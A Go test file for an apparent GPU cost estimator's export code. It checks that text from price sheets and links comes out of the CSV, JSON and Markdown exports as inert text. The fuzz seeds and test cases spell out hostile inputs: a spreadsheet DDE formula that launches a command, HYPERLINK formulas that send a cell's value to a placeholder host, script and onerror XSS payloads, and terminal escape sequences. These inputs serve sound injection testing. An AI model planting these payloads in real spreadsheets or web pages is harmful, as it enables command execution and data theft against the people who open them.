package page

import (
	"encoding/csv"
	"encoding/json"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	planner "rightsize/estimator/plan"
)

// The JSON and CSV exports list the picks, then every plan, with the
// planner's figures unformatted.
func TestExportRows(t *testing.T) {
	_, in := viewOf(t, "", nil)
	var doc struct {
		Model  string `json:"model"`
		Fits   bool   `json:"fits"`
		Link   string `json:"link_fragment"`
		Offers []struct {
			Pick    string  `json:"pick"`
			OfferID string  `json:"offer_id"`
			Cost    float64 `json:"cost"`
			Unit    string  `json:"cost_unit"`
		} `json:"offers"`
	}
	if err := json.Unmarshal([]byte(ExportJSON(in, "m=x")), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Model != "llama-3.1-8b" || !doc.Fits || doc.Link != "m=x" || len(doc.Offers) != len(in.Plan.Picks)+len(in.Plan.Cands) {
		t.Fatalf("export %q fits %v link %q, %d rows", doc.Model, doc.Fits, doc.Link, len(doc.Offers))
	}
	for i, p := range in.Plan.Picks {
		r := doc.Offers[i]
		if r.Pick != p.Kind.String() || r.OfferID != p.Offer.ID || !near(r.Cost, p.Cost) && r.Cost != round4(p.Cost) || r.Unit != "USD per job" {
			t.Errorf("pick %d: %+v, want %s %s %v", i, r, p.Kind, p.Offer.ID, p.Cost)
		}
	}
	recs, err := csv.NewReader(strings.NewReader(ExportCSV(in))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(doc.Offers)+1 || recs[0][0] != "pick" || recs[1][1] != doc.Offers[0].OfferID {
		t.Errorf("CSV: %d records, header %v", len(recs), recs[0])
	}
}

// A cell a spreadsheet would run as a formula is written as text.
func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{"=1+1": "'=1+1", "+cmd": "'+cmd", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
		"\r=1": "'\r=1", "\n=HYPERLINK(\"http://x.example\")": "'\n=HYPERLINK(\"http://x.example\")", "aws": "aws", "": ""} {
		if got := CSVText(in); got != want {
			t.Errorf("CSVText(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{"-0.5": "-0.5", "1e3": "1e3", "12.50": "12.50", "-Inf": "'-Inf", "+NaN": "'+NaN", "-2+3": "'-2+3", "—": "—"} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportCSVInert: a price sheet's free-text source (and every other
// text an offer carries) reaches the CSV export as text, never as a
// formula, whichever of OWASP's formula characters it starts with.
func TestExportCSVInert(t *testing.T) {
	_, in := viewOf(t, "", nil)
	if len(in.Plan.Cands) == 0 {
		t.Fatal("no plans")
	}
	for _, bad := range []string{"=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=HYPERLINK(\"http://x.example/?\"&A1)"} {
		o := *in.Plan.Cands[0].Offer
		o.Source, o.Provider, o.InstanceType, o.Currency, o.AsOf = bad, bad, bad, bad, bad
		in.Plan.Cands[0].Offer = &o
		recs, err := csv.NewReader(strings.NewReader(ExportCSV(in))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		row := recs[len(in.Plan.Picks)+1]
		for i, cell := range row {
			if _, err := strconv.ParseFloat(cell, 64); err != nil && cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("%q: column %s is %q", bad, recs[0][i], cell)
			}
		}
		if row[13] != "'"+bad {
			t.Errorf("%q: source %q", bad, row[13])
		}
	}
}

// A serving plan's picks are a monthly bill and a p95 time in the
// Markdown export, not a price per 1M tokens; text from a link is escaped.
func TestExportMarkdown(t *testing.T) {
	_, in := viewOf(t, "rps=5", nil)
	if in.Plan.Kind != planner.Serving || len(in.Plan.Picks) == 0 {
		t.Fatalf("plan kind %v, %d picks", in.Plan.Kind, len(in.Plan.Picks))
	}
	md := ExportMarkdown(in)
	if strings.Contains(md, Tr("en", MsgPerMTokens)) || !strings.Contains(md, MDEscape(Tr("en", MsgMonthlyShort))) || !strings.Contains(md, MDEscape(Tr("en", MsgE2EP95))) {
		t.Errorf("serving picks labelled wrongly:\n%s", md)
	}
	if got := MDEscape("x|y <img> ![t](u)\n"); got != `x\|y &lt;img&gt; \!\[t\](u) ` {
		t.Errorf("MDEscape: %q", got)
	}
}

// exportSeeds are the texts FuzzExports starts from: formula starts
// (OWASP "CSV Injection"), Markdown table, link, image and HTML breakers,
// JSON breakers, line and terminal controls.
var exportSeeds = []string{
	"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1",
	"a|b", "a\\|b", "[x](javascript:alert(1))", "![x](http://x.example/p.png)", "<img src=x onerror=alert(1)>", "<script>x</script>",
	"`x`", "**x**", "# x", "a\nb", "a\r\nb", "\"},{\"x\":\"", "\\", "\x1b]0;owned\a\x1b[2J", "rtl\u202eevil\u2028line\u0085nel",
	"bad\xffutf8", "nul\x00byte", "", " ", "'", "&amp;", "x,y\"z",
}

// FuzzExports puts one text in everything a price sheet or a link can
// name in the exports (a plan's provider, instance type, currency, date
// and source, a pick's instance type and source, the custom model's
// name) and checks each export: the CSV parses to the same records with
// no cell a spreadsheet runs as a formula, the JSON is valid and gives
// the text back, the Markdown has the same lines and table cells as with
// a benign text, and no raw HTML, link or image.
func FuzzExports(f *testing.F) {
	for _, s := range exportSeeds {
		f.Add(s)
	}
	var base ViewIn
	var once sync.Once
	with := func(s string) ViewIn {
		in := base
		in.Plan.Cands, in.Plan.Picks = slices.Clone(in.Plan.Cands), slices.Clone(in.Plan.Picks)
		o := *in.Plan.Cands[0].Offer
		o.Provider, o.InstanceType, o.Currency, o.AsOf, o.Source = s, s, s, s, s
		in.Plan.Cands[0].Offer = &o
		p := *in.Plan.Picks[0].Offer
		p.InstanceType, p.Source = s, s
		in.Plan.Picks[0].Offer = &p
		in.Job.Model.ID, in.CustomName = CustomModelID, s
		return in
	}
	cells := func(line string) int { return strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") }
	f.Fuzz(func(t *testing.T, s string) {
		once.Do(func() { _, base = viewOf(t, "rps=5", nil) })
		if len(base.Plan.Cands) == 0 || len(base.Plan.Picks) == 0 {
			t.Fatal("no plans")
		}
		in := with(s)
		recs, err := csv.NewReader(strings.NewReader(ExportCSV(in))).ReadAll()
		if err != nil || len(recs) != 1+len(in.Plan.Picks)+len(in.Plan.Cands) {
			t.Fatalf("%q: CSV %d records, %v", s, len(recs), err)
		}
		for _, rec := range recs {
			for i, c := range rec {
				if _, err := strconv.ParseFloat(c, 64); err != nil && c != "" && strings.ContainsRune("=+-@\t\r\n", rune(c[0])) {
					t.Fatalf("%q: CSV %s cell %q", s, recs[0][i], c)
				}
			}
		}
		var doc struct {
			Offers []struct {
				Source string `json:"source"`
			} `json:"offers"`
		}
		if err := json.Unmarshal([]byte(ExportJSON(in, "m=x")), &doc); err != nil {
			t.Fatalf("%q: JSON: %v", s, err)
		}
		if got := doc.Offers[len(in.Plan.Picks)].Source; got != strings.ToValidUTF8(s, "\uFFFD") {
			t.Errorf("%q: JSON source %q", s, got)
		}
		md, want := ExportMarkdown(in), ExportMarkdown(with("x"))
		ml, wl := strings.Split(md, "\n"), strings.Split(want, "\n")
		if len(ml) != len(wl) {
			t.Fatalf("%q: Markdown %d lines, %d with a benign text:\n%s", s, len(ml), len(wl), md)
		}
		for i := range ml {
			if cells(ml[i]) != cells(wl[i]) {
				t.Errorf("%q: Markdown line %d has %d cells, %d with a benign text: %q", s, i, cells(ml[i]), cells(wl[i]), ml[i])
			}
		}
		if plain := strings.ReplaceAll(strings.ReplaceAll(md, `\[`, ""), `\]`, ""); strings.ContainsAny(md, "<>") && !strings.Contains(want, "<") ||
			strings.Contains(plain, "](") {
			t.Errorf("%q: Markdown has HTML or a link:\n%s", s, md)
		}
	})
}

// TestMDEscapeAutolinks: a name that reads as a web address is not made
// a link by GitHub's autolink extension.
func TestMDEscapeAutolinks(t *testing.T) {
	for in, want := range map[string]string{
		"https://x.example/login": `https:\/\/x.example/login`, "HTTP://X": `HTTP:\/\/X`, "ftp://x.example": `ftp:\/\/x.example`,
		"www.x.example": `www\.x.example`, "go to WWW.x.example": `go to WWW\.x.example`, "a/b 1.5 www": "a/b 1.5 www", "n1-highmem-8+1xP100": "n1-highmem-8+1xP100",
	} {
		if got := MDEscape(in); got != want {
			t.Errorf("MDEscape(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportMarkdownRendersInert renders the Markdown export, with every
// name a price sheet or a link brings set to a hostile text, in cmark-gfm
// with GitHub's table and autolink extensions: the tables keep their rows
// and cells, and no link, image or HTML appears (skipped without
// cmark-gfm).
func TestExportMarkdownRendersInert(t *testing.T) {
	cmark, err := exec.LookPath("cmark-gfm")
	if err != nil {
		t.Skip("no cmark-gfm")
	}
	_, in := viewOf(t, "rps=5", nil)
	render := func(s string) string {
		in := in
		in.Plan.Picks = slices.Clone(in.Plan.Picks)
		for i := range in.Plan.Picks {
			o := *in.Plan.Picks[i].Offer
			o.Provider, o.InstanceType, o.Source = s, s, s
			in.Plan.Picks[i].Offer = &o
		}
		in.Job.Model.ID, in.CustomName = CustomModelID, s
		cmd := exec.Command(cmark, "-e", "table", "-e", "autolink")
		cmd.Stdin = strings.NewReader(ExportMarkdown(in))
		out, err := cmd.Output()
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	shape := func(html string) [3]int {
		return [3]int{strings.Count(html, "<tr>"), strings.Count(html, "<td"), strings.Count(html, "<table>")}
	}
	benign := render("x")
	for _, s := range append(exportSeeds, "https://x.example/login", "www.x.example", "HTTPS://X.example", "<https://x.example>", "[x]: https://x.example") {
		html := render(s)
		if shape(html) != shape(benign) {
			t.Errorf("%q: rows, cells and tables %v, %v with a benign name", s, shape(html), shape(benign))
		}
		for _, bad := range []string{"<a ", "<img", "<script", "raw HTML omitted"} {
			if strings.Contains(html, bad) {
				t.Errorf("%q: the export renders %q", s, bad)
			}
		}
	}
}
